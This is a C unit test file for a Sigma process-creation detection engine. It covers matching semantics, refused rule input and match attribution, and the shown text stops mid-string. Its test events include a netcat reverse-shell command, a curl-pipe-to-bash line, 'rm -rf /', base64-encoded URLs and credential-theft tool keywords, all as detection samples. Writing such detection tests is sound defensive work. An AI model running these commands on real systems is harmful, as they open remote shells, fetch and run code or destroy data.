// SPDX-License-Identifier: GPL-2.0
/* sigma_test.c - the Sigma engine: semantics, refused input, findings, and SigmaHQ's Linux rules. */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#include "sigma.h"
#include "sigma_int.h"
#include "sigma_json.h"
#include "testlib.h"

#define HEADER "title: t\nlogsource:\n  category: process_creation\n  product: linux\n" \
	       "detection:\n"

/* How many rules SigmaHQ's folder holds (../shared/sigma/README.md). */
#define SIGMAHQ_RULES 122

/* The rules in @set matched by the event in JSON @event_json; -1 on a bad event. */
static long match_json(struct whorl_sigma_set *set, const char *event_json,
		       const struct whorl_sigma_meta **hits, size_t max)
{
	char err[WHORL_SIGMA_JSON_ERR_MAX];
	struct whorl_sigma_json_event ev;
	json_object *o = json_tokener_parse(event_json);
	long n;

	if (!o)
		fail_msg("test event is not JSON: %s", event_json);
	if (whorl_sigma_event_from_json(o, &ev, err))
		fail_msg("test event refused: %s: %s", err, event_json);
	n = whorl_sigma_match(set, &ev.ev, hits, max);
	json_object_put(o);
	return n;
}

static void load_ok(struct whorl_sigma_set *set, const char *text)
{
	char err[WHORL_SIGMA_ERR_MAX];
	int ret = whorl_sigma_load_buf(set, "t.yml", text, strlen(text), err);

	if (ret)
		fail_msg("rule refused (%d): %s\n%s", ret, err, text);
}

/* --- semantics: one detection, one event, one verdict ------------------------------------------ */

struct sem_case {
	const char *name;
	const char *detection;		/* YAML under detection:, two-space indented */
	const char *event;		/* JSON */
	int match;
};

#define T_A50 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define T_A300 T_A50 T_A50 T_A50 T_A50 T_A50 T_A50

static const struct sem_case sem[] = {
	/* contains: at the last place it fits, cut short by the end, after a run of its first
	 * byte, and in a line longer than the short-line search takes (memmem's) */
	{ "contains_at_the_end",
	  "  s:\n    CommandLine|contains: 'aab'\n  condition: s\n",
	  "{\"CommandLine\": \"" T_A50 "b\"}", 1 },
	{ "contains_cut_by_the_end",
	  "  s:\n    CommandLine|contains: 'aab'\n  condition: s\n",
	  "{\"CommandLine\": \"" T_A50 "\"}", 0 },
	{ "contains_in_a_long_line",
	  "  s:\n    CommandLine|contains: 'aab'\n  condition: s\n",
	  "{\"CommandLine\": \"" T_A300 "b\"}", 1 },
	{ "contains_absent_from_a_long_line",
	  "  s:\n    CommandLine|contains: 'aab'\n  condition: s\n",
	  "{\"CommandLine\": \"" T_A300 "c\"}", 0 },
	/* values and modifiers */
	{ "contains_is_case_insensitive",
	  "  s:\n    CommandLine|contains: 'Base64 -D'\n  condition: s\n",
	  "{\"CommandLine\": \"echo x | BASE64 -d\"}", 1 },
	{ "contains_misses_absent_text",
	  "  s:\n    CommandLine|contains: 'base64 -d'\n  condition: s\n",
	  "{\"CommandLine\": \"base64 -e\"}", 0 },
	{ "startswith_matches_the_beginning_only",
	  "  s:\n    CommandLine|startswith: 'sudo '\n  condition: s\n",
	  "{\"CommandLine\": \"echo sudo x\"}", 0 },
	{ "endswith_matches_the_end",
	  "  s:\n    Image|endswith: '/nc'\n  condition: s\n",
	  "{\"Image\": \"/usr/bin/nc\"}", 1 },
	{ "endswith_may_end_inside_the_file_name",
	  "  s:\n    Image|endswith: 'sh'\n  condition: s\n",
	  "{\"Image\": \"/bin/bash\"}", 1 },
	{ "equality_with_a_bare_name",
	  "  s:\n    Image: 'bash'\n  condition: s\n",
	  "{\"Image\": \"bash\"}", 1 },
	{ "endswith_is_not_contains",
	  "  s:\n    Image|endswith: '/nc'\n  condition: s\n",
	  "{\"Image\": \"/usr/bin/nc.openbsd\"}", 0 },
	{ "plain_value_is_whole_field_equality",
	  "  s:\n    Image: '/bin/sh'\n  condition: s\n",
	  "{\"Image\": \"/bin/sh2\"}", 0 },
	{ "plain_value_equality_ignores_case",
	  "  s:\n    Image: '/BIN/SH'\n  condition: s\n",
	  "{\"Image\": \"/bin/sh\"}", 1 },
	{ "star_wildcard_spans_characters",
	  "  s:\n    CommandLine: 'cat /etc/*.conf'\n  condition: s\n",
	  "{\"CommandLine\": \"cat /etc/ssh/sshd.conf\"}", 1 },
	{ "question_mark_is_one_character",
	  "  s:\n    Image: '/bin/?sh'\n  condition: s\n",
	  "{\"Image\": \"/bin/bash\"}", 0 },
	{ "question_mark_matches_exactly_one",
	  "  s:\n    Image: '/bin/?sh'\n  condition: s\n",
	  "{\"Image\": \"/bin/zsh\"}", 1 },
	{ "leading_star_is_endswith",
	  "  s:\n    Image: '*/python3'\n  condition: s\n",
	  "{\"Image\": \"/usr/bin/python3\"}", 1 },
	{ "wildcard_inside_contains",
	  "  s:\n    CommandLine|contains: 'curl*|*sh'\n  condition: s\n",
	  "{\"CommandLine\": \"x; curl http://a/b | bash\"}", 1 },
	{ "escaped_star_is_a_plain_star",
	  "  s:\n    CommandLine: 'rm \\*'\n  condition: s\n",
	  "{\"CommandLine\": \"rm x\"}", 0 },
	{ "escaped_star_matches_a_star",
	  "  s:\n    CommandLine: 'rm \\*'\n  condition: s\n",
	  "{\"CommandLine\": \"rm *\"}", 1 },
	{ "escaped_backslash_before_a_wildcard",
	  "  s:\n    CommandLine: 'a\\\\*'\n  condition: s\n",
	  "{\"CommandLine\": \"a\\\\bcd\"}", 1 },
	{ "lone_backslash_is_itself",
	  "  s:\n    CommandLine|contains: 'a\\b'\n  condition: s\n",
	  "{\"CommandLine\": \"xa\\\\by\"}", 1 },
	{ "cased_compares_exactly",
	  "  s:\n    CommandLine|contains|cased: 'ABC'\n  condition: s\n",
	  "{\"CommandLine\": \"abc\"}", 0 },
	{ "non_ascii_letters_are_compared_as_bytes",
	  "  s:\n    CommandLine|contains: '\xc3\x89t\xc3\xa9'\n  condition: s\n",
	  "{\"CommandLine\": \"\xc3\xa9t\xc3\xa9\"}", 0 },
	{ "list_of_values_is_or",
	  "  s:\n    Image|endswith:\n      - '/nc'\n      - '/ncat'\n  condition: s\n",
	  "{\"Image\": \"/usr/bin/ncat\"}", 1 },
	{ "all_needs_every_value",
	  "  s:\n    CommandLine|contains|all:\n      - ' -e '\n      - '/bin/sh'\n  condition: s\n",
	  "{\"CommandLine\": \"nc 10.0.0.1 4444 -e /bin/bash\"}", 0 },
	{ "all_matches_with_every_value",
	  "  s:\n    CommandLine|contains|all:\n      - ' -e '\n      - '/bin/sh'\n  condition: s\n",
	  "{\"CommandLine\": \"nc 10.0.0.1 4444 -e /bin/sh\"}", 1 },
	{ "map_is_and",
	  "  s:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n  condition: s\n",
	  "{\"Image\": \"/usr/bin/nc\", \"CommandLine\": \"nc -l 80\"}", 0 },
	{ "list_of_maps_is_or",
	  "  s:\n    - Image|endswith: '/nc'\n    - CommandLine|contains: ' -e '\n  condition: s\n",
	  "{\"Image\": \"/usr/bin/socat\", \"CommandLine\": \"x -e y\"}", 1 },
	{ "null_matches_an_absent_field",
	  "  s:\n    ParentImage: null\n  condition: s\n",
	  "{\"Image\": \"/bin/sh\"}", 1 },
	{ "null_misses_a_present_field",
	  "  s:\n    ParentImage: null\n  condition: s\n",
	  "{\"ParentImage\": \"/bin/sh\"}", 0 },
	{ "absent_field_matches_no_value",
	  "  s:\n    CommandLine|contains: ''\n  condition: s\n",
	  "{\"Image\": \"/bin/sh\"}", 0 },
	{ "empty_value_matches_an_empty_field",
	  "  s:\n    CommandLine: ''\n  condition: s\n",
	  "{\"CommandLine\": \"\"}", 1 },
	{ "exists_false_matches_absence",
	  "  s:\n    User|exists: false\n  condition: s\n",
	  "{\"Image\": \"/bin/sh\"}", 1 },
	{ "exists_true_matches_presence",
	  "  s:\n    User|exists: true\n  condition: s\n",
	  "{\"User\": \"\"}", 1 },
	{ "number_value_is_compared_as_written",
	  "  s:\n    LogonId: 0\n  condition: s\n",
	  "{\"LogonId\": \"0\"}", 1 },
	{ "re_is_case_sensitive",
	  "  s:\n    CommandLine|re: '\\s-D\\b'\n  condition: s\n",
	  "{\"CommandLine\": \"auditctl -d\"}", 0 },
	{ "re_i_is_case_insensitive",
	  "  s:\n    CommandLine|re|i: '\\s-D\\b'\n  condition: s\n",
	  "{\"CommandLine\": \"auditctl -d\"}", 1 },
	{ "re_is_unanchored",
	  "  s:\n    CommandLine|re: 'b+c'\n  condition: s\n",
	  "{\"CommandLine\": \"abbbcd\"}", 1 },
	{ "re_m_anchors_at_lines",
	  "  s:\n    CommandLine|re|m: '^rm -rf'\n  condition: s\n",
	  "{\"CommandLine\": \"x\\nrm -rf /\"}", 1 },
	{ "re_without_m_anchors_at_the_start",
	  "  s:\n    CommandLine|re: '^rm -rf'\n  condition: s\n",
	  "{\"CommandLine\": \"x\\nrm -rf /\"}", 0 },
	{ "re_s_dot_matches_newline",
	  "  s:\n    CommandLine|re|s: 'a.b'\n  condition: s\n",
	  "{\"CommandLine\": \"a\\nb\"}", 1 },
	{ "re_dot_stops_at_newline",
	  "  s:\n    CommandLine|re: 'a.b'\n  condition: s\n",
	  "{\"CommandLine\": \"a\\nb\"}", 0 },
	{ "base64offset_finds_offset_0",
	  "  s:\n    CommandLine|base64offset|contains: 'http://'\n  condition: s\n",
	  "{\"CommandLine\": \"echo aHR0cDovL2V2aWw= | base64 -d\"}", 1 },
	{ "base64offset_finds_offset_1",
	  "  s:\n    CommandLine|base64offset|contains: 'http://'\n  condition: s\n",
	  "{\"CommandLine\": \"echo eGh0dHA6Ly9ldmls | base64 -d\"}", 1 },
	{ "base64offset_finds_offset_2",
	  "  s:\n    CommandLine|base64offset|contains: 'http://'\n  condition: s\n",
	  "{\"CommandLine\": \"echo eHlodHRwOi8vZXZpbA== | base64 -d\"}", 1 },
	{ "base64offset_is_case_sensitive",
	  "  s:\n    CommandLine|base64offset|contains: 'http://'\n  condition: s\n",
	  "{\"CommandLine\": \"echo AHR0CDOVL2V2AWW= | base64 -d\"}", 0 },
	{ "base64offset_misses_other_text",
	  "  s:\n    CommandLine|base64offset|contains: 'http://'\n  condition: s\n",
	  "{\"CommandLine\": \"echo aHR0cHM6Ly9ldmls | base64 -d\"}", 0 },
	{ "base64_contains_the_whole_encoding",
	  "  s:\n    CommandLine|base64|contains: 'ELF'\n  condition: s\n",
	  "{\"CommandLine\": \"echo RUxG | base64 -d\"}", 1 },
	{ "cidr_v4_in_range",
	  "  s:\n    whorl.StdinRemoteAddress|cidr: '10.0.0.0/8'\n  condition: s\n",
	  "{\"whorl.StdinRemoteAddress\": \"10.1.2.3\"}", 1 },
	{ "cidr_v4_out_of_range",
	  "  s:\n    whorl.StdinRemoteAddress|cidr: '10.0.0.0/8'\n  condition: s\n",
	  "{\"whorl.StdinRemoteAddress\": \"11.1.2.3\"}", 0 },
	{ "cidr_odd_prefix_length",
	  "  s:\n    whorl.StdoutRemoteAddress|cidr: '192.168.0.0/23'\n  condition: s\n",
	  "{\"whorl.StdoutRemoteAddress\": \"192.168.1.200\"}", 1 },
	{ "cidr_v6",
	  "  s:\n    whorl.StdoutRemoteAddress|cidr: '2001:db8::/32'\n  condition: s\n",
	  "{\"whorl.StdoutRemoteAddress\": \"2001:db8:1::5\"}", 1 },
	{ "cidr_v6_range_misses_v4",
	  "  s:\n    whorl.StdoutRemoteAddress|cidr: '::/0'\n  condition: s\n",
	  "{\"whorl.StdoutRemoteAddress\": \"10.0.0.1\"}", 0 },
	{ "cidr_list_is_or",
	  "  s:\n    whorl.StdinRemoteAddress|cidr:\n      - '10.0.0.0/8'\n      - '172.16.0.0/12'\n"
	  "  condition: not s\n",
	  "{\"whorl.StdinRemoteAddress\": \"172.20.0.1\"}", 0 },
	{ "cidr_on_a_non_address_is_no_match",
	  "  s:\n    whorl.StdinRemoteAddress|cidr: '0.0.0.0/0'\n  condition: s\n",
	  "{\"whorl.StdinRemoteAddress\": \"pipe\"}", 0 },
	{ "env_field_matches_its_variable",
	  "  s:\n    whorl.Env.LD_PRELOAD|endswith: '.so'\n  condition: s\n",
	  "{\"whorl.Env.LD_PRELOAD\": \"/tmp/x.so\", \"whorl.Env.HOME\": \"/root\"}", 1 },
	{ "env_field_absent_is_null",
	  "  s:\n    whorl.Env.LD_PRELOAD: null\n  condition: s\n",
	  "{\"whorl.Env.HOME\": \"/root\"}", 1 },
	{ "env_name_is_case_sensitive",
	  "  s:\n    whorl.Env.http_proxy|exists: true\n  condition: s\n",
	  "{\"whorl.Env.HTTP_PROXY\": \"http://p:3128\"}", 0 },
	{ "whorl_fields_match_like_any_other",
	  "  s:\n    whorl.Layer: added\n    whorl.ContainerImage|startswith: 'docker.io/library/'\n"
	  "    whorl.StdinType: socket\n  condition: s\n",
	  "{\"whorl.Layer\": \"added\", \"whorl.ContainerImage\": \"docker.io/library/nginx:1\","
	  " \"whorl.StdinType\": \"socket\"}", 1 },
	{ "keywords_are_found_in_any_field",
	  "  keywords:\n    - 'mimikatz'\n    - 'lazagne'\n  condition: keywords\n",
	  "{\"Image\": \"/tmp/LaZagne\", \"CommandLine\": \"x\"}", 1 },
	{ "keywords_miss_absent_text",
	  "  keywords:\n    - 'mimikatz'\n  condition: keywords\n",
	  "{\"Image\": \"/bin/ls\", \"CommandLine\": \"ls\"}", 0 },
	{ "keywords_with_all_need_each",
	  "  k:\n    '|all':\n      - 'nc'\n      - '-e'\n  condition: k\n",
	  "{\"Image\": \"/bin/nc\", \"CommandLine\": \"nc -l\"}", 0 },
	/* conditions */
	{ "not_binds_tighter_than_and",
	  "  a:\n    Image: /a\n  b:\n    User: b\n  condition: not a and b\n",
	  "{\"Image\": \"/x\", \"User\": \"b\"}", 1 },
	{ "and_binds_tighter_than_or",
	  "  a:\n    Image: /a\n  b:\n    User: b\n  c:\n    CommandLine: c\n"
	  "  condition: a or b and c\n",
	  "{\"Image\": \"/a\"}", 1 },
	{ "parentheses_group",
	  "  a:\n    Image: /a\n  b:\n    User: b\n  c:\n    CommandLine: c\n"
	  "  condition: (a or b) and c\n",
	  "{\"Image\": \"/a\"}", 0 },
	{ "not_of_a_group",
	  "  a:\n    Image: /a\n  b:\n    User: b\n  condition: not (a or b)\n",
	  "{\"Image\": \"/x\", \"User\": \"x\"}", 1 },
	{ "one_of_pattern",
	  "  sel_a:\n    Image: /a\n  sel_b:\n    User: b\n  other:\n    CommandLine: c\n"
	  "  condition: 1 of sel_*\n",
	  "{\"User\": \"b\"}", 1 },
	{ "one_of_pattern_ignores_others",
	  "  sel_a:\n    Image: /a\n  sel_b:\n    User: b\n  other:\n    CommandLine: c\n"
	  "  condition: 1 of sel_*\n",
	  "{\"CommandLine\": \"c\"}", 0 },
	{ "all_of_pattern_needs_each",
	  "  sel_a:\n    Image: /a\n  sel_b:\n    User: b\n  condition: all of sel_*\n",
	  "{\"Image\": \"/a\"}", 0 },
	{ "all_of_pattern_with_each",
	  "  sel_a:\n    Image: /a\n  sel_b:\n    User: b\n  condition: all of sel_*\n",
	  "{\"Image\": \"/a\", \"User\": \"B\"}", 1 },
	{ "star_in_the_middle_of_a_pattern",
	  "  sel_x_1:\n    Image: /a\n  sel_y_1:\n    User: b\n  condition: all of sel_*_1\n",
	  "{\"Image\": \"/a\", \"User\": \"b\"}", 1 },
	{ "two_of_pattern",
	  "  s1:\n    Image: /a\n  s2:\n    User: b\n  s3:\n    CommandLine: c\n"
	  "  condition: 2 of s*\n",
	  "{\"Image\": \"/a\", \"CommandLine\": \"c\"}", 1 },
	{ "one_of_them",
	  "  a:\n    Image: /a\n  b:\n    User: b\n  condition: 1 of them\n",
	  "{\"User\": \"b\"}", 1 },
	{ "all_of_them_skips_underscored",
	  "  a:\n    Image: /a\n  _b:\n    User: b\n  condition: all of them\n",
	  "{\"Image\": \"/a\"}", 1 },
	{ "condition_list_is_or",
	  "  a:\n    Image: /a\n  b:\n    User: b\n  condition:\n    - a\n    - b\n",
	  "{\"User\": \"b\"}", 1 },
	{ "identifier_with_dots",
	  "  filter_main_mdadm.conf:\n    Image: /a\n  condition: not filter_main_mdadm.conf\n",
	  "{\"Image\": \"/a\"}", 0 },
};

static void semantics(void **state)
{
	const struct sem_case *c = *state;
	struct whorl_sigma_set set = { 0 };
	const struct whorl_sigma_meta *hit;
	char text[4096];
	long n;

	/* Arrange */
	snprintf(text, sizeof(text), HEADER "%s", c->detection);
	load_ok(&set, text);

	/* Act */
	n = match_json(&set, c->event, &hit, 1);

	/* Assert */
	if (n != c->match)
		fail_msg("%s: expected %s, got %ld matches\nrule:\n%s\nevent: %s", c->name,
			 c->match ? "a match" : "no match", n, text, c->event);
	whorl_sigma_free(&set);
}

/* --- refused input: FILE:LINE: reason ---------------------------------------------------------- */

struct bad_case {
	const char *name;
	const char *text;
	const char *message;
};

static const struct bad_case bad[] = {
	{ "not_yaml_is_refused", "title: [unclosed\n",
	  "t.yml:2: not valid YAML: did not find expected ',' or ']' while parsing a flow sequence" },
	{ "tab_indentation_is_refused", "title: t\n\tid: x\n",
	  "t.yml:2: not valid YAML: found a tab character that violates indentation while scanning a plain scalar" },
	{ "empty_file_is_refused", "", "t.yml:1: empty document" },
	{ "a_list_is_not_a_rule", "- a\n- b\n", "t.yml:1: a rule must be a YAML mapping" },
	{ "missing_title_is_refused", "id: x\n", "t.yml:1: a rule needs a title" },
	{ "no_detection_is_refused",
	  "title: t\nlogsource:\n  category: process_creation\n  product: linux\n",
	  "t.yml:1: a rule needs a detection" },
	{ "no_condition_is_refused", HEADER "  s:\n    Image: /a\n",
	  "t.yml:6: detection has no condition" },
	{ "windows_rules_are_refused",
	  "title: t\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n"
	  "  s:\n    Image: a\n  condition: s\n",
	  "t.yml:4: logsource product must be linux" },
	{ "other_categories_are_refused",
	  "title: t\nlogsource:\n  category: network_connection\n  product: linux\n",
	  "t.yml:3: logsource category must be process_creation" },
	{ "services_are_refused",
	  "title: t\nlogsource:\n  category: process_creation\n  product: linux\n  service: auditd\n",
	  "t.yml:5: logsource service is not supported (process_creation has none)" },
	{ "unknown_modifier_is_refused", HEADER "  s:\n    Image|endwith: /a\n  condition: s\n",
	  "t.yml:7: unknown modifier 'endwith'" },
	{ "windash_is_refused_with_its_reason",
	  HEADER "  s:\n    CommandLine|windash|contains: -enc\n  condition: s\n",
	  "t.yml:7: modifier 'windash' is not supported: Windows command-line dash variants; Linux options have one dash" },
	{ "numeric_modifiers_are_refused", HEADER "  s:\n    LogonId|gt: 5\n  condition: s\n",
	  "t.yml:7: modifier 'gt' is not supported: numeric comparisons: no process_creation field is a number to compare" },
	{ "unknown_field_is_refused", HEADER "  s:\n    ProcessId: 5\n  condition: s\n",
	  "t.yml:7: unknown field 'ProcessId' (docs/SIGMA.md lists the fields)" },
	{ "re_with_contains_is_refused", HEADER "  s:\n    CommandLine|re|contains: a\n  condition: s\n",
	  "t.yml:7: 're' takes no other modifier but i, m, s and all" },
	{ "base64offset_needs_contains",
	  HEADER "  s:\n    CommandLine|base64offset: a\n  condition: s\n",
	  "t.yml:7: base64offset is supported with contains only" },
	{ "contains_before_base64offset_is_refused",
	  HEADER "  s:\n    CommandLine|contains|base64offset: a\n  condition: s\n",
	  "t.yml:7: contains must come after base64/base64offset, not before" },
	{ "bad_regex_is_refused", HEADER "  s:\n    CommandLine|re: 'a(b'\n  condition: s\n",
	  "t.yml:7: bad regular expression at offset 3: missing closing parenthesis" },
	{ "bad_cidr_is_refused",
	  HEADER "  s:\n    whorl.StdinRemoteAddress|cidr: 10.0.0.0/33\n  condition: s\n",
	  "t.yml:7: bad CIDR '10.0.0.0/33'" },
	{ "exists_needs_a_boolean", HEADER "  s:\n    User|exists: maybe\n  condition: s\n",
	  "t.yml:7: 'exists' takes true or false" },
	{ "null_with_a_modifier_is_refused",
	  HEADER "  s:\n    User|contains: null\n  condition: s\n",
	  "t.yml:7: null takes no modifier" },
	{ "nested_map_value_is_refused",
	  HEADER "  s:\n    Image:\n      a: b\n  condition: s\n",
	  "t.yml:8: a field's value must be a string, a number, null or a list of them" },
	{ "wildcards_in_base64_are_refused",
	  HEADER "  s:\n    CommandLine|base64offset|contains: 'a*b'\n  condition: s\n",
	  "t.yml:7: wildcards in a base64-encoded value are not supported" },
	{ "empty_value_list_is_refused", HEADER "  s:\n    Image: []\n  condition: s\n",
	  "t.yml:7: empty list of values" },
	{ "undefined_identifier_is_refused", HEADER "  s:\n    Image: /a\n  condition: s and t\n",
	  "t.yml:8: condition names 't', which the detection does not define" },
	{ "unbalanced_parenthesis_is_refused",
	  HEADER "  s:\n    Image: /a\n  condition: (s or s\n", "t.yml:8: missing ')'" },
	{ "dangling_operator_is_refused", HEADER "  s:\n    Image: /a\n  condition: s and\n",
	  "t.yml:8: condition ends where a search identifier was expected" },
	{ "trailing_words_are_refused", HEADER "  s:\n    Image: /a\n  condition: s s\n",
	  "t.yml:8: unexpected 's' in condition" },
	{ "pattern_matching_nothing_is_refused",
	  HEADER "  s:\n    Image: /a\n  condition: 1 of filter_*\n",
	  "t.yml:8: 'filter_*' names no search identifier" },
	{ "zero_of_is_refused", HEADER "  s:\n    Image: /a\n  condition: 0 of s*\n",
	  "t.yml:8: '0 of' needs 'all' or a number from 1" },
	{ "more_of_than_named_is_refused", HEADER "  s1:\n    Image: /a\n  condition: 2 of s*\n",
	  "t.yml:8: '2 of s*' but it names 1" },
	{ "aggregation_is_refused", HEADER "  s:\n    Image: /a\n  condition: s | count() > 5\n",
	  "t.yml:8: aggregations ('| count() ...') are not supported" },
	{ "timeframe_is_refused",
	  HEADER "  s:\n    Image: /a\n  timeframe: 5m\n  condition: s\n",
	  "t.yml:8: timeframe (aggregation over time) is not supported" },
	{ "correlation_rules_are_refused", "title: t\ncorrelation:\n  type: event_count\n",
	  "t.yml:3: correlation rules are not supported" },
	{ "aliases_are_refused", "title: &a t\nid: *a\n", "t.yml:2: YAML aliases are not supported" },
	{ "two_documents_are_refused", "title: t\n---\ntitle: u\n",
	  "t.yml:2: several YAML documents in one file (rule collections are not supported)" },
	{ "duplicate_keys_are_refused", "title: t\ntitle: u\n", "t.yml:2: duplicate key 'title'" },
	{ "unknown_level_is_refused", "title: t\nlevel: severe\n",
	  "t.yml:2: unknown level 'severe' (informational, low, medium, high, critical)" },
	{ "unsupported_status_is_refused", "title: t\nstatus: unsupported\n",
	  "t.yml:2: status 'unsupported': the rule says it cannot be used as it is" },
	{ "mixed_keywords_and_maps_are_refused",
	  HEADER "  s:\n    - a\n    - Image: b\n  condition: s\n",
	  "t.yml:7: search 's' mixes maps and keywords" },
	{ "deeply_nested_condition_is_refused",
	  HEADER "  s:\n    Image: /a\n  condition: "
	  "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((s"
	  "))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))\n",
	  "t.yml:8: condition nested deeper than 64" },
};

static void refused(void **state)
{
	const struct bad_case *c = *state;
	struct whorl_sigma_set set = { 0 };
	char err[WHORL_SIGMA_ERR_MAX];

	/* Act */
	int ret = whorl_sigma_load_buf(&set, "t.yml", c->text, strlen(c->text), err);

	/* Assert */
	if (ret != 1)
		fail_msg("%s: expected refusal '%s', got %d (%s)", c->name, c->message, ret, err);
	assert_string_equal(err, c->message);
	assert_int_equal(set.n, 0);
	assert_int_equal(set.refused, 1);
	whorl_sigma_free(&set);
}

static char *repeat(const char *head, const char *unit, size_t n, const char *tail)
{
	size_t hl = strlen(head), ul = strlen(unit), tl = strlen(tail), i;
	char *s = malloc(hl + ul * n + tl + 1), *p;

	assert_non_null(s);
	memcpy(s, head, hl);
	p = s + hl;
	for (i = 0; i < n; i++, p += ul)
		memcpy(p, unit, ul);
	memcpy(p, tail, tl + 1);
	return s;
}

static void refused_big(const char *head, const char *unit, size_t n, const char *message)
{
	struct whorl_sigma_set set = { 0 };
	char err[WHORL_SIGMA_ERR_MAX];
	char *text = repeat(head, unit, n, "");
	int ret = whorl_sigma_load_buf(&set, "t.yml", text, strlen(text), err);

	free(text);
	assert_int_equal(ret, 1);
	assert_string_equal(err, message);
	whorl_sigma_free(&set);
}

static void huge_file_is_refused(void **state)
{
	(void)state;
	refused_big("title: t\ndescription: ", "x", 2 * 1024 * 1024, "t.yml:1: larger than 1048576 bytes");
}

static void deep_nesting_is_refused(void **state)
{
	(void)state;
	refused_big("title: t\nx: ", "[", 10000, "t.yml:2: nested deeper than 32 levels");
}

static void too_many_nodes_are_refused(void **state)
{
	(void)state;
	refused_big("title: t\nx:\n", "- a\n", 200000, "t.yml:99998: more than 100000 YAML nodes");
}

static void collect(void *ctx, const char *msg)
{
	fprintf(ctx, "%s\n", msg);
}

/*
 * A directory of good and bad files and a symlink loop: the good ones load, each bad one is
 * reported once.
 */
static void one_bad_file_leaves_the_others_loaded(void **state)
{
	static const char good[] = HEADER "  s:\n    Image|endswith: /nc\n  condition: s\n";
	struct whorl_sigma_set set = { 0 };
	char dir[] = "/tmp/whorl-sigma-test.XXXXXX", path[256];
	const struct whorl_sigma_meta *hit;
	FILE *f, *msgs;
	char *out = NULL;
	size_t outlen = 0;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/sub", dir);
	assert_int_equal(mkdir(path, 0700), 0);
	snprintf(path, sizeof(path), "%s/a.yml", dir);
	f = fopen(path, "w");
	fputs(good, f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/sub/b.yaml", dir);
	f = fopen(path, "w");
	fputs("title: [\n", f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/sub/notes.txt", dir);
	f = fopen(path, "w");
	fputs("not a rule\n", f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/sub/loop", dir);
	assert_int_equal(symlink("..", path), 0);	/* walked once, not forever */
	msgs = open_memstream(&out, &outlen);

	/* Act */
	assert_int_equal(whorl_sigma_load_path(&set, dir, collect, msgs), 0);
	fclose(msgs);

	/* Assert */
	assert_int_equal(set.n, 1);
	assert_int_equal(set.refused, 1);
	snprintf(path, sizeof(path), "%s/sub/b.yaml:2: not valid YAML", dir);
	if (!out || strncmp(out, path, strlen(path)))
		fail_msg("expected '%s...', got '%s'", path, out ? out : "");
	assert_int_equal(match_json(&set, "{\"Image\": \"/bin/nc\"}", &hit, 1), 1);
	assert_string_equal(hit->path + strlen(dir), "/a.yml");
	assert_string_equal(hit->link, hit->path);
	free(out);
	whorl_sigma_free(&set);
	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	assert_int_equal(system(path), 0);
}

/* --- what a match reports ---------------------------------------------------------------------- */

static const char attributed[] =
	"title: Netcat Reverse Shell\n"
	"id: 6e1a2e0c-0d38-4a5e-9e36-0f0b1a2b3c4d\n"
	"status: test\n"
	"author: A. Author, B. Author\n"
	"level: informational\n"
	"tags:\n"
	"  - attack.execution\n"
	"  - attack.command-and-control\n"
	"  - attack.stealth\n"
	"  - attack.defense-impairment\n"
	"  - attack.execution\n"
	"  - attack.t1059.004\n"
	"  - attack.t1095\n"
	"  - attack.g0032\n"
	"  - cve.2021-4034\n"
	"logsource: {category: process_creation, product: linux}\n"
	"detection:\n  s:\n    Image|endswith: /nc\n  condition: s\n";

static void match_carries_rule_attribution_and_mitre(void **state)
{
	struct whorl_sigma_set set = { 0 };
	const struct whorl_sigma_meta *m;
	char err[WHORL_SIGMA_ERR_MAX];

	(void)state;
	assert_int_equal(whorl_sigma_load_buf(&set, "rules/nc.yml", attributed,
					      strlen(attributed), err), 0);
	assert_int_equal(match_json(&set, "{\"Image\": \"/bin/nc\"}", &m, 1), 1);
	assert_string_equal(m->id, "6e1a2e0c-0d38-4a5e-9e36-0f0b1a2b3c4d");
	assert_string_equal(m->title, "Netcat Reverse Shell");
	assert_string_equal(m->author, "A. Author, B. Author");
	assert_string_equal(m->level, "informational");
	assert_int_equal(m->severity, WHORL_SIGMA_LOW);
	assert_string_equal(m->link, "rules/nc.yml");
	assert_int_equal(m->ntactics, 3);
	assert_string_equal(m->tactics[0], "EXECUTION");
	assert_string_equal(m->tactics[1], "COMMAND_AND_CONTROL");
	assert_string_equal(m->tactics[2], "DEFENSE_EVASION");
	assert_int_equal(m->ntechniques, 2);
	assert_string_equal(m->techniques[0], "T1059.004");
	assert_string_equal(m->techniques[1], "T1095");
	assert_int_equal(m->ntags, 9);
	whorl_sigma_free(&set);
}

static void match_json_names_rule_severity_and_event(void **state)
{
	struct whorl_sigma_set set = { 0 };
	const struct whorl_sigma_meta *m;
	char err[WHORL_SIGMA_ERR_MAX];
	json_object *ev, *o;
	const char *line;

	(void)state;
	assert_int_equal(whorl_sigma_load_buf(&set, "x/proc_creation_lnx_nc.yml", attributed,
					      strlen(attributed), err), 0);
	ev = json_tokener_parse("{\"Image\": \"/bin/nc\"}");
	assert_int_equal(match_json(&set, "{\"Image\": \"/bin/nc\"}", &m, 1), 1);

	/* Act */
	o = whorl_sigma_match_json(m, ev);

	/* Assert */
	assert_non_null(o);
	line = json_object_to_json_string_ext(o, JSON_C_TO_STRING_PLAIN |
					      JSON_C_TO_STRING_NOSLASHESCAPE);
	assert_string_equal(line,
		"{\"category\":\"Netcat Reverse Shell\",\"severity\":\"LOW\",\"rule\":{"
		"\"id\":\"6e1a2e0c-0d38-4a5e-9e36-0f0b1a2b3c4d\",\"title\":\"Netcat Reverse Shell\","
		"\"author\":\"A. Author, B. Author\",\"level\":\"informational\",\"status\":\"test\","
		"\"link\":\"https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/"
		"proc_creation_lnx_nc.yml\",\"tags\":[\"attack.execution\","
		"\"attack.command-and-control\",\"attack.stealth\",\"attack.defense-impairment\","
		"\"attack.execution\",\"attack.t1059.004\",\"attack.t1095\",\"attack.g0032\","
